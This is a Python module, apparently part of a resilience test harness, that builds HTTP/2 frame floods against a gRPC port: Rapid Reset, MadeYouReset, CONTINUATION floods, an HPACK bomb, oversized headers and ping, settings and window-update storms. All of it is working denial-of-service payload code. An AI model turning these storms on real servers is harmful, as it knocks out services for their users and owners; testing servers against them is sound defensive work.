"""Attacks by frames, on the gRPC port."""

from __future__ import annotations

import itertools
import struct
from collections.abc import Callable, Iterable, Iterator

import frames
import wire
from attack import Attack, storm
from field import Field

CHUNK = 100
#: A storm is cut within this, from its first frame on.
AT_ONCE = 5.0


def storming(
    name: str, pieces: Callable[[], Iterable[tuple[bytes, int]]], opening: bytes = b"", cut: float = AT_ONCE
) -> Attack:
    async def run(place: Field) -> None:
        await storm(place, "grpc", frames.hello() + opening, pieces)

    return Attack(name, run, cut)


def endless(one: bytes) -> Callable[[], Iterator[tuple[bytes, int]]]:
    return lambda: itertools.repeat((one * CHUNK, CHUNK))


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


def rapid_reset() -> Iterator[tuple[bytes, int]]:
    block = frames.call_head(wire.GET_JOB)
    ids = streams()
    while True:
        piece = b"".join(
            frames.headers(stream, block) + frames.reset(stream) for stream in itertools.islice(ids, CHUNK))
        yield piece, 2 * CHUNK


def made_you_reset() -> Iterator[tuple[bytes, int]]:
    """Frames on an open stream that are wrong, so that the server resets it, while its call goes on."""
    block = frames.call_head(wire.SUBMIT_STREAM)
    wrong = itertools.cycle([
        lambda stream: frames.window_update(stream, 0),
        lambda stream: frames.window_update(stream, 0x7FFFFFFF),
        lambda stream: frames.data(stream, b"", frames.END_STREAM) + frames.data(stream, b"x"),
        lambda stream: frames.frame(frames.PRIORITY, 0, stream, struct.pack(">IB", stream, 1)),
    ])
    ids = streams()
    while True:
        piece = b"".join(
            frames.headers(stream, block) + next(wrong)(stream) for stream in itertools.islice(ids, CHUNK))
        yield piece, 2 * CHUNK


def continuation() -> Iterator[tuple[bytes, int]]:
    yield frames.headers(1, frames.call_head(wire.GET_JOB), 0), 1
    more = frames.frame(frames.CONTINUATION, 0, 1, frames.literal("x", b"y" * 1000) * 16)
    yield from itertools.repeat((more, 1))


def hpack_bomb() -> Iterator[tuple[bytes, int]]:
    """One field of 4,000 bytes in the table, and frames of nothing but its number."""
    head = frames.call_head(wire.GET_JOB) + frames.literal("bomb", b"b" * 4000, indexed=True)
    ids = streams()
    yield frames.headers(next(ids), head, frames.END_HEADERS | frames.END_STREAM), 1
    for stream in ids:
        yield frames.headers(stream, b"\xbe" * 16_000, frames.END_HEADERS | frames.END_STREAM), 1


def many_headers() -> Iterator[tuple[bytes, int]]:
    """100,000 fields, in as many frames as they need."""
    block = frames.call_head(wire.GET_JOB) + b"".join(frames.literal(f"h{i}", "v") for i in range(100_000))
    parts = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
    yield frames.headers(1, parts[0], 0), 1
    for part in parts[1:-1]:
        yield frames.frame(frames.CONTINUATION, 0, 1, part), 1
    yield frames.frame(frames.CONTINUATION, frames.END_HEADERS, 1, parts[-1]), 1


def large_header() -> Iterator[tuple[bytes, int]]:
    """One field of 80 KiB, in five frames."""
    block = frames.call_head(wire.GET_JOB) + frames.literal("large", b"l" * (80 << 10))
    parts = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
    yield frames.headers(1, parts[0], 0), 1
    for part in parts[1:]:
        last = frames.END_HEADERS if part is parts[-1] else 0
        yield frames.frame(frames.CONTINUATION, last, 1, part), 1


def pings() -> Iterator[tuple[bytes, int]]:
    for start in itertools.count(0, CHUNK):
        yield b"".join(frames.ping(start + i) for i in range(CHUNK)), CHUNK


STREAM = frames.headers(1, frames.call_head(wire.SUBMIT_STREAM))

ATTACKS = [
    storming("rapid-reset", rapid_reset),
    storming("made-you-reset", made_you_reset),
    storming("continuation", continuation),
    storming("settings", endless(frames.settings())),
    storming("ping", pings),
    storming("ping-in-call", pings, STREAM),
    storming("priority", endless(frames.frame(frames.PRIORITY, 0, 3, struct.pack(">IB", 0, 1)))),
    storming("empty-data", endless(frames.data(1, b"")), STREAM),
    storming("padded-data", endless(frames.frame(frames.DATA, 0x8, 1, b"\x00")), STREAM),
    storming("window-update", endless(frames.window_update(0, 1)), STREAM),
    storming("unknown-frames", endless(frames.frame(0xFA, 0, 0, b"?"))),
    storming("tiny-data", endless(frames.data(1, b"\x00")), STREAM),
    storming("hpack-bomb", hpack_bomb),
    storming("many-headers", many_headers),
    storming("large-header", large_header),
]
